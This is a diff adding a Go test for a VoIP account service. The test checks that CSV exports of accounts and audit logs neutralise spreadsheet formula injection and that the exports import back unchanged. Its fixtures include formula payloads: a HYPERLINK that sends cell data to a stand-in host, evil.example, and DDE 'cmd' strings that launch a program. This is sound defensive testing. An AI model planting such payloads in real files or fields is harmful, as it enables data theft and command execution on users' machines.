@@ -1,0 +1,87 @@
+package activation
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"strings"
+	"testing"
+
+	"github.com/activator-voip/activator/internal/model"
+	"github.com/activator-voip/activator/internal/store"
+	"github.com/activator-voip/activator/internal/store/storetest"
+)
+
+// Cells a spreadsheet would run as formulas, in every column a user or an
+// attacker can fill.
+var formulas = []string{
+	`=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
+	`+HYPERLINK("https://evil.example")`,
+	`-2+3+cmd|' /C calc'!A0`,
+	`@SUM(1+1)*cmd|' /C calc'!A0`,
+	"\t=1+1",
+	"\r=1+1",
+}
+
+// checkNoFormula fails for any cell of a CSV export that a spreadsheet
+// would read as a formula.
+func checkNoFormula(t *testing.T, what string, data []byte) [][]string {
+	t.Helper()
+	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatalf("%s: %v", what, err)
+	}
+	for i, rec := range recs {
+		for j, cell := range rec {
+			if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) {
+				t.Errorf("%s: row %d column %d is read as a formula: %q", what, i+1, j+1, cell)
+			}
+		}
+	}
+	return recs
+}
+
+func TestExportsNeutraliseFormulasAndImportBackUnchanged(t *testing.T) {
+	storetest.ForEach(t, func(t *testing.T, st *store.Store) {
+		ctx := context.Background()
+		s := newService(t, st)
+		mustGroup(t, s, "sales")
+		for _, f := range formulas {
+			name := "Eve " + strings.TrimSpace(f)
+			if strings.IndexByte(formulaStart, f[0]) >= 0 && f[0] != '\t' && f[0] != '\r' {
+				name = f // a name that is itself a formula
+			}
+			if _, err := s.CreateAccount(ctx, model.AccountInput{Group: strp("sales"), Name: strp(name), Description: strp(f)}, admin); err != nil {
+				t.Fatalf("account %q: %v", f, err)
+			}
+			if err := s.Audit(ctx, Caller{Name: f, Role: "admin"}, "console", "POST /console/login", f, 401, nil, nil); err != nil {
+				t.Fatal(err)
+			}
+		}
+		var accounts, audit bytes.Buffer
+		if err := s.ExportAccounts(ctx, &accounts, "", "", ""); err != nil {
+			t.Fatal(err)
+		}
+		if err := s.ExportAudit(ctx, &audit, AuditFilter{}); err != nil {
+			t.Fatal(err)
+		}
+		checkNoFormula(t, "account export", accounts.Bytes())
+		if recs := checkNoFormula(t, "audit export", audit.Bytes()); len(recs) != len(formulas)+1 {
+			t.Errorf("audit export: %d rows, want %d", len(recs), len(formulas)+1)
+		}
+		// The export reads back as the same accounts: every row matches one.
+		p, err := s.PreviewImport(ctx, "export.csv", accounts.Bytes(), ImportOptions{}, admin)
+		if err != nil {
+			t.Fatalf("importing the export back: %v", err)
+		}
+		if p.Exists != len(formulas) || p.Create != 0 || p.Invalid != 0 {
+			t.Fatalf("the export read back: %d exist, %d to create, %d invalid (%+v); want all %d to exist",
+				p.Exists, p.Create, p.Invalid, p.Errors, len(formulas))
+		}
+		for _, r := range p.Rows {
+			if !strings.HasPrefix(r.Name, "Eve ") && !strings.ContainsRune(formulaStart, rune(r.Name[0])) {
+				t.Errorf("a name read back as %q: the neutralising quote was kept", r.Name)
+			}
+		}
+	})
+}
